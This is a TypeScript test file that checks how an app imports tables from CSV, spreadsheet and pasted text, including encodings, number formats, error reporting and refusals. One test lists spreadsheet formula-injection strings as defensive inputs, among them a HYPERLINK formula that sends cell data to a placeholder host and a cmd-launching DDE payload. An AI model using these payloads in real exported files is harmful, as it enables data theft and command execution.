import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import type { ImportSource } from '../../../src/io/importing/importView.ts';
import { readClipboard } from '../../../src/io/tables/readClipboard.ts';
import { readNumber } from '../../../src/numbers/readNumber.ts';
import { cpuTime } from '../cpuTime.ts';
import { file, fixture, read, readView, summaryOf, type Verdict, verdictOf } from './reading.ts';

interface Case {
  readonly file: string;
  readonly verdict: Verdict;
  readonly expect: string;
}

function casesOf(folder: 'csv' | 'paste' | 'xlsx'): readonly Case[] {
  return JSON.parse(readFileSync(new URL(`../../fixtures/${folder}/manifest.json`, import.meta.url), 'utf8'));
}

const csv = (name: string) => file(fixture('csv', name), name);

function paste(name: string): ImportSource {
  const text = new TextDecoder().decode(fixture('paste', name));
  return name.endsWith('.html') ? { kind: 'html', html: text } : { kind: 'text', text };
}

const twoRows = ['Young urban 1000/0.5/0.02', 'Families 2500/0.4/0.03'];

describe('every table of the corpus', () => {
  it.each(casesOf('csv'))('$file: $verdict, $expect', async ({ file: name, verdict }) => {
    expect(verdictOf(await read(csv(name)))).toBe(verdict);
    expect(Reflect.get({}, 'x')).toBeUndefined();
  });

  it.each<[string, readonly string[]]>([
    ['001-good.csv', twoRows],
    ['003-bom-utf16le.csv', twoRows],
    ['005-windows1252.csv', ['Café Münze 1000/0.5/0.02']],
    ['007-semicolon.csv', twoRows],
    ['009-pipe.csv', twoRows],
    ['011-sep-line.csv', twoRows],
    ['013-cr-only.csv', twoRows],
    ['015-no-final-newline.csv', twoRows],
    ['019-ragged-short.csv', ['A 1000/0.5/0.02']],
    ['021-thousands-comma-unquoted.csv', []],
    ['025-space-groups.csv', ['A 1000/0.5/0.02', 'B 2500/0.4/0.03', 'C 3000/0.1/0.01']],
    ['027-indian-groups.csv', ['A 100000/0.5/0.02']],
    ['029-percent-signs.csv', ['A 1000/0.5/0.02', 'B 2500/0.4/0.03']],
    ['031-percent-whole-numbers.csv', ['A 1000/0.5/0.02', 'B 2500/0.4/0.03']],
    ['041-zero-size.csv', ['A 0/0.5/0.02', 'B 2500/0.4/0.03']],
    ['043-lift-above-1.csv', ['A 1000/0.5/1.5']],
    ['045-scientific.csv', ['A 1000/0.5/0.02']],
    ['047-plus-sign-leading-zero.csv', ['A 1000/0.5/0.02', 'B 1000/0.4/0.03']],
    ['051-k-m-suffix.csv', ['A 10000/0.5/0.02', 'B 1500000/0.4/0.03']],
    ['057-header-case-space.csv', ['A 1000/0.5/0.02']],
    ['077-blank-lines-between.csv', ['A 1000/0.5/0.02', 'B 2500/0.4/0.03']],
    ['079-title-and-total-rows.csv', ['A 1000/0.5/0.02']],
    ['089-spaces-around-quotes.csv', ['A 1000/0.5/0.02']],
    ['099-utf8-then-latin1.csv', ['CafÃ© 1000/0.5/0.02', 'Café 10/0.1/0.01']],
  ])('%s reads as it should', async (name, rows) => {
    expect(summaryOf(await readView(csv(name)))).toEqual(rows);
  });

  it.each<[string, readonly (readonly [number, number | null, string])[]]>([
    [
      '019-ragged-short.csv',
      [
        [3, 2, 'missing'],
        [3, 3, 'missing'],
      ],
    ],
    ['021-thousands-comma-unquoted.csv', [[2, null, 'tooManyCells']]],
    ['033-negative-cost.csv', [[2, 2, 'mustBeAtLeast']]],
    ['035-accounting-negative.csv', [[2, 1, 'mustBeAtLeast']]],
    [
      '037-overflow-1e309.csv',
      [
        [2, 1, 'tooLarge'],
        [3, 1, 'tooLarge'],
        [3, 2, 'tooLarge'],
      ],
    ],
    ['039-big-int.csv', [[2, 1, 'tooLarge']]],
    ['049-words-as-numbers.csv', [2, 3, 4, 5, 6].map((row) => [row, 1, 'notANumber'] as const)],
    ['053-excel-errors.csv', [2, 3, 4].map((row) => [row, 1, 'spreadsheetError'] as const)],
    [
      '069-zero-width-names.csv',
      [
        [2, 0, 'nameMissing'],
        [6, 0, 'nameMissing'],
      ],
    ],
    ['091-nulls-inside.csv', [[2, 1, 'notANumber']]],
    ['093-iso-lift-in-bp.csv', [[2, 3, 'notANumber']]],
  ])('%s: each bad cell is named', async (name, problems) => {
    const { view } = await readView(csv(name));
    expect(view.problems.map(({ row, column, code }) => [row, column, code])).toEqual(problems);
  });

  it.each([
    ['005-windows1252.csv', [{ code: 'encoding', likely: 'windows-1252', row: 2, sample: 'Café Münze,1000,0.5,0.02' }]],
    ['023-ambiguous-1.234.csv', [{ code: 'decimal', likely: '.', sample: '1.234' }]],
    ['031-percent-whole-numbers.csv', [{ code: 'bareShares', column: 'microLift', sample: '2', likely: 'percent' }]],
    [
      '051-k-m-suffix.csv',
      [
        {
          code: 'scales',
          samples: [
            { text: '10k', value: 10_000 },
            { text: '1.5M', value: 1_500_000 },
          ],
        },
      ],
    ],
    ['055-missing-header-column.csv', [{ code: 'mapping', missing: ['size'] }]],
    [
      '079-title-and-total-rows.csv',
      [
        { code: 'headerRow', likely: 2 },
        { code: 'totals', rows: [5] },
      ],
    ],
    ['097-locale-turkish.csv', [{ code: 'mapping', missing: [] }]],
    ['099-utf8-then-latin1.csv', [{ code: 'encoding', likely: 'windows-1252', row: 3, sample: 'Café,10,0.1,0.01' }]],
  ])('%s asks, with its sample', async (name, questions) => {
    expect((await readView(csv(name))).view.questions).toEqual(questions);
  });

  it.each([
    ['017-unterminated-quote.csv', { code: 'unclosedQuote', row: 2 }],
    ['073-empty-file.csv', { code: 'emptyFile' }],
    ['075-only-newlines.csv', { code: 'emptyFile' }],
    ['081-html-as-csv.csv', { code: 'webPage' }],
    ['083-png-renamed.csv', { code: 'notText' }],
    ['085-gzip-renamed.csv', { code: 'compressed' }],
    ['087-many-quotes.csv', { code: 'unclosedQuote', row: 2 }],
  ])('%s is refused for its reason', async (name, refusal) => {
    expect(await read(csv(name))).toEqual({ kind: 'refusal', refusal });
  });

  it.each([
    ['027-indian-groups.csv', [{ code: 'indianGroups', count: 1 }]],
    ['059-extra-columns.csv', [{ code: 'columnsIgnored', names: ['note', 'owner'], count: 2 }]],
    ['061-proto-header.csv', [{ code: 'columnsIgnored', names: ['__proto__', 'constructor', 'prototype'], count: 3 }]],
    ['069-zero-width-names.csv', [{ code: 'lookAlikes', names: ['AB', 'A\u200bB'] }]],
  ])('%s: what was changed or looks wrong is said', async (name, notes) => {
    expect((await readView(csv(name))).view.notes).toEqual(notes);
  });

  it('keeps names that are names of objects in the language', async () => {
    const { rows } = await readView(csv('063-proto-segment-names.csv'));
    expect(rows.map(({ name }) => name)).toEqual(['__proto__', 'constructor', 'toString', 'hasOwnProperty']);
  });

  it('keeps names that a spreadsheet would run', async () => {
    const { rows } = await readView(csv('065-formula-injection.csv'));
    expect(rows.map(({ name }) => name)).toEqual([
      '=1+1',
      '=HYPERLINK("http://example.invalid/?x="&A1,"click")',
      "+cmd|' /C calc'!A0",
      '-2+3',
      '@SUM(1)',
      '\t=1',
      '\r=1',
      '=1+1\nnote',
      '＝1+1',
    ]);
  });

  it('refuses 40,000 quotes within a second', async () => {
    expect(await cpuTime(() => read(csv('087-many-quotes.csv')))).toBeLessThan(1_000);
  });
});

describe('every spreadsheet of the corpus', () => {
  // Of what claims to be 4 GB, reading the true bytes is as good as refusing it.
  const verdicts: Readonly<Record<string, Verdict>> = { '025-claims-4GB.xlsx': 'ACCEPT' };

  it.each(casesOf('xlsx'))('$file: $verdict, $expect', async ({ file: name, verdict }) => {
    const outcome = await read(file(fixture('xlsx', name), name));
    expect([verdict, verdicts[name]]).toContain(verdictOf(outcome));
  });

  it('asks which sheet is meant, and takes the one chosen', async () => {
    const workbook = file(fixture('xlsx', '003-data-on-second-sheet.xlsx'));
    const { view } = await readView(workbook);
    expect(view.questions).toEqual([{ code: 'sheet', likely: 1 }]);
    const chosen = await readView(workbook, { sheet: 1 });
    expect(chosen.view.questions).toEqual([]);
    expect(summaryOf(chosen)).toEqual(twoRows);
  });

  it('says of a name under a merged cell that it is merged', async () => {
    const { view } = await readView(file(fixture('xlsx', '015-merged-cells.xlsx')));
    expect(view.questions).toEqual([{ code: 'headerRow', likely: 1 }]);
    expect(view.problems).toMatchObject([{ row: 4, column: 0, code: 'merged' }]);
  });
});

describe('every paste of the corpus', () => {
  it.each<[string, Verdict]>([
    ['001-excel-range.tsv', 'ACCEPT'],
    ['005-word-table.html', 'ACCEPT'],
    ['009-json-plan.txt', 'REFUSE'],
    ['011-rtl.txt', 'ACCEPT'],
    ['013-smart-quotes.txt', 'ROW-ERRORS'],
  ])('%s, pasted as a table: %s', async (name, verdict) => {
    expect(verdictOf(await read(paste(name)))).toBe(verdict);
  });

  it.each(['003-single-cell-newline.txt', '007-url.txt', '015-object-object.txt'])(
    '%s is no table of segments: its columns are asked for',
    async (name) => {
      const { view } = await readView(paste(name));
      expect(view.questions).toEqual([{ code: 'mapping', missing: ['name', 'size'] }]);
      expect(view.goodCount).toBe(0);
    },
  );

  it.each([
    ['003-single-cell-newline.txt', { ok: true, value: 1000 }],
    ['007-url.txt', { ok: false, problem: { code: 'notANumber' } }],
    ['015-object-object.txt', { ok: false, problem: { code: 'notANumber' } }],
  ])('%s, pasted into a number field', (name, reading) => {
    const text = new TextDecoder().decode(fixture('paste', name));
    const [[cell]] = readClipboard({ text, html: '' })?.rows ?? [[]];
    expect(readNumber(String(cell), 'people')).toEqual(reading);
  });

  it('reads the same from a spreadsheet and from a text processor', async () => {
    expect(summaryOf(await readView(paste('001-excel-range.tsv')))).toEqual(['A 1000/0.5/0.02', 'B 2500/0.4/0.03']);
    expect(summaryOf(await readView(paste('005-word-table.html')))).toEqual(['A 1000/0.5/0.02']);
  });

  it('keeps direction marks in names and ignores them in numbers', async () => {
    expect(summaryOf(await readView(paste('011-rtl.txt')))).toEqual(['\u200fمرحبا 1000/0.5/0.02']);
  });
});
